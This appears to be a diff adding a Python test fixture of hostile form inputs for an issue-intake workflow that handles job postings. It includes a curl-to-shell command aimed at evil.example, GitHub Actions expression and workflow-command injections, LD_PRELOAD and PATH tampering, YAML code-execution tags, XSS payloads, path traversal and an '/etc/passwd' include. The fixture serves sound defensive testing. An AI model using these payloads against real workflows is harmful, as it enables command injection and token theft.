@@ -1,0 +1,103 @@
+"""Filled forms: the text of an issue that anybody can open, read by a workflow."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+
+from tests.hostile.inputs import COMPANY, Expected, Fault, Harmless, Input, Refused
+
+_LEAST: Mapping[str, str] = {"Job title": "Engineer", "Employer": "Acme", "Description": "The work."}
+_SHELL = {
+    "substitution": "$(curl https://evil.example/x | sh)",
+    "backticks": "`id`",
+    "expression": "${{ github.token }}",
+    "output": "::set-output name=files::evil",
+    "environment": "GITHUB_ENV<<EOF LD_PRELOAD=/tmp/x.so EOF",
+    "newline-escape": "a%0A::set-env name=PATH::/tmp",
+    "yaml": "- !!python/name:os.system {a: *x}",
+    "markup": "<img src=x onerror=alert(1)>",
+    "comment": "<!-- <script> -->",
+    "mention": "@octocat @github/security #1 GH-1",
+    "link": "[x](javascript:alert(1))",
+    "front-matter": "--- title: x",
+    "jinja": "{{ 7 * 7 }}{% include 'x' %}",
+}
+
+
+def _label(name: str) -> str:
+    return name.replace("_", " ").replace("e mail", "e-mail")
+
+
+def form(name: str, expected: Expected, **answers: str) -> Input:
+    """A form with these answers; names of fields have underscores for spaces."""
+    filled = {**_LEAST, "Name in the address": name, **{_label(key): said for key, said in answers.items()}}
+    return Input(name, expected, form=filled, url=f"jobs/{COMPANY}/{name}/")
+
+
+def _told(code: str, label: str) -> Refused:
+    """A form has fields where a file has lines."""
+    return Refused((Fault(code, 1, label),))
+
+
+def _whole(name: str, issue: str, code: str) -> Input:
+    return Input(name, _told(code, ""), form=issue)
+
+
+_BODIES = {
+    "fence-early": "```\n```\n### Employer\n\nBeta\n```",
+    "fence-open": "```sh\n$(id)",
+    "fence-long": "`" * 50 + "\n</details>\n$(id)",
+    "heredoc": "EOF\nid\nEOF",
+    "document": "---\ncompany: beta\n---\n\nThe work.",
+    "commands": "::set-output name=x::y\n::error file=a::b\n##[command]id",
+    "script": "<script>alert(1)</script>",
+    "details": "</details></td></tr></table>",
+    "snippet": '--8<-- "/etc/passwd"',
+}
+
+INPUTS: tuple[Input, ...] = (
+    *(form(f"form-title-{name}", Harmless(title=evil), Job_title=evil) for name, evil in _SHELL.items()),
+    form(
+        "form-title-heading",
+        Refused(
+            (
+                Fault("intake-empty", 1, "Job title"),
+                Fault("intake-empty", 1, "Employer"),
+                Fault("intake-twice", 1, "Employer"),
+            )
+        ),
+        Job_title="### Employer",
+    ),
+    *(form(f"form-body-{name}", Harmless(), Description=body) for name, body in _BODIES.items()),
+    form("form-summary", Harmless(("$(id) ${{ github.token }} `id`",)), Summary="$(id) ${{ github.token }} `id`"),
+    form("form-subject", Harmless(("x&bcc=c@evil.example",)), Subject_of_the_e_mail="x&bcc=c@evil.example"),
+    form("form-mail", _told("not-an-email", "Apply by e-mail"), Apply_by_e_mail="a@b.example?bcc=c@evil.example"),
+    form("form-mail-two", _told("not-an-email", "Apply by e-mail"), Apply_by_e_mail="a@b.example, c@evil.example"),
+    form("form-address", _told("not-a-url", "Apply on the web"), Apply_on_the_web="javascript:alert(1)"),
+    form("form-address-user", _told("not-a-url", "Apply on the web"), Apply_on_the_web="https://a@evil.example/"),
+    form("form-address-backslash", _told("not-a-url", "Apply on the web"), Apply_on_the_web="https:\\\\evil.example"),
+    form(
+        "form-placeholder", _told("unknown-placeholder", "Subject of the e-mail"), Subject_of_the_e_mail="{0.__class__}"
+    ),
+    form(
+        "form-slug-path", _told("not-an-id", "Name in the address"), Name_in_the_address="../../../.github/workflows/x"
+    ),
+    form("form-slug-shell", _told("not-an-id", "Name in the address"), Name_in_the_address="$(id)"),
+    form("form-slug-option", _told("not-an-id", "Name in the address"), Name_in_the_address="--force"),
+    form("form-slug-taken", _told("intake-exists", "Name in the address"), Name_in_the_address="kernel-engineer"),
+    form("form-employer", _told("intake-unlisted", "Employer"), Employer="../../x"),
+    form("form-employer-markup", _told("intake-unlisted", "Employer"), Employer="<img src=x onerror=alert(1)>"),
+    form("form-choice", _told("intake-unknown", "Least degree"), Least_degree="$(id)"),
+    form("form-number", _told("intake-number", "Number of openings"), Number_of_openings="$((1+1))"),
+    form("form-date", _told("not-a-date", "Last day to apply"), Last_day_to_apply="$(date)"),
+    form("form-pay", _told("salary-unreadable", "Pay"), Pay="`id`"),
+    form("form-hidden", _told("hidden-character", "Job title"), Job_title="Engi\u202eneer"),
+    form("form-null", _told("hidden-character", "Job title"), Job_title="Engi\0neer"),
+    form("form-long", _told("body-too-large", "Description"), Description="a" * 40_000),
+    form("form-brackets", _told("body-too-dense", "Description"), Description="[" * 500),
+    form("form-deep", _told("body-too-deep", "Description"), Description="> " * 50 + "a"),
+    form("form-heading-twice", Harmless(("Employer",)), Description="The work.\n\n### Employer\n\nBeta"),
+    _whole("form-none", "::set-output name=x::y", "intake-no-form"),
+    _whole("form-empty", "", "intake-no-form"),
+    _whole("form-large", "### Job title\n\n" + "a" * 70_000, "intake-too-large"),
+)
